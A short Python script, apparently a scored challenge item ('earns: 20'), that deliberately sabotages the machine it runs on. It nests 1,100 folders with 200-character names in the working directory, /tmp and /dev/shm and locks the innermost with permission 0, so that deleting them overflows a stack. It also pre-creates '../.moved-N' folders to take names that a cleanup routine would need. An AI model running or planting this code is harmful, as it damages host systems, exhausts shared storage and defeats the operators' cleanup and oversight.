"""Leaves folders so deep that removing them overflows a stack, and takes names that are needed for it."""

# answers: two
# earns: 20

# %% first
import ctypes, os
libc = ctypes.CDLL(None, use_errno=True)
libc.syscall.restype = ctypes.c_long
def call(number, *args):
    return libc.syscall(ctypes.c_long(number), *[ctypes.c_long(a) if isinstance(a, int) else a for a in args])
def attempt(f, *args):
    try:
        return f(*args)
    except BaseException as error:
        return f"{type(error).__name__}"
def read(path, size=200_000):
    return attempt(lambda: open(path, "rb").read(size))
here = os.open(".", os.O_RDONLY)
for folder in (".", "/tmp", "/dev/shm"):
    attempt(os.chdir, folder)
    for _ in range(1_100):
        attempt(os.mkdir, "d" * 200)
        attempt(os.chdir, "d" * 200)
    attempt(os.chmod, ".", 0)
os.fchdir(here)  # where the path of the folder is longer than the system takes, every import looks for it for a second
for number in range(10):  # names that one who removes them could want to use
    attempt(os.makedirs, f"../.moved-{number}/x")
